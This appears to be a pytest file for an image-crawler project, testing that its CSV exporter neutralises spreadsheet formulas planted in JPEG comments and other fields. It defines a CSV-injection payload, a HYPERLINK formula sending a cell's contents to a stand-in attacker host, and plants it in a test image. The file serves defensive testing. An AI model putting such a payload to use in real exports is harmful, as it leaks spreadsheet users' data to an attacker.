"""What a hostile file or site can make of a feed (issue 23, findings 2, 3 and 8):
the size of one line, the length of ``pages``, and formulas in CSV cells."""

from __future__ import annotations

import csv
import io

import pytest
from PIL import Image

from imgprint.exporters import CsvExporter, neutralise_formula
from imgprint.items import ImageRecord
from tests.conftest import run_crawl, static_server

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def jpeg_with_comment(comment: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(out, "JPEG", comment=comment.encode())
    return out.getvalue()


# -- finding 8: CSV cells that a spreadsheet would run --------------------------

def test_formula_starts_are_neutralised():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise_formula(start + "1+2") == "'" + start + "1+2"
    assert neutralise_formula("plain =1") == "plain =1"
    assert neutralise_formula(-3) == -3 and neutralise_formula(True) is True


def test_csv_exporter_neutralises_every_text_cell():
    out = io.BytesIO()
    exporter = CsvExporter(out, fields_to_export=["url", "comment", "software", "width",
                                                  "pages"])
    record = ImageRecord("http://example.com/x.jpg", pages=["@SUM(1)", "http://a/"])
    record.set(comment=FORMULA, software="-2+3", width=64)
    exporter.start_exporting()
    exporter.export_item(record)
    exporter.finish_exporting()
    rows = list(csv.reader(io.StringIO(out.getvalue().decode())))
    assert rows[1] == ["http://example.com/x.jpg", "'" + FORMULA, "'-2+3", "64",
                       "'@SUM(1),http://a/"]


@pytest.mark.crawl
def test_csv_feed_of_a_crawl_carries_no_live_formula(tmp_path):
    """Finding 8: a JPEG comment ``=HYPERLINK(...)`` landed in the ``comment``
    cell of ``-O out.csv`` as is: a live link in any spreadsheet."""
    site = tmp_path / "site"
    site.mkdir()
    (site / "evil.jpg").write_bytes(jpeg_with_comment(FORMULA))
    server = static_server(site, tmp_path / "access.jsonl")
    try:
        out_csv = tmp_path / "out.csv"
        crawl = run_crawl(tmp_path, "-a", f"url={server.url('/evil.jpg')}", "-O", str(out_csv))
    finally:
        server.stop()
    assert crawl.returncode == 0, crawl.log[-3000:]
    assert crawl.records[0]["comment"] == FORMULA  # the JSON feed keeps the value
    rows = list(csv.DictReader(out_csv.open(newline="", encoding="utf-8")))
    assert len(rows) == 1
    assert rows[0]["comment"] == "'" + FORMULA
    cells = [v for row in rows for v in row.values() if v]
    assert not [v for v in cells if v[0] in "=+-@\t\r"], cells
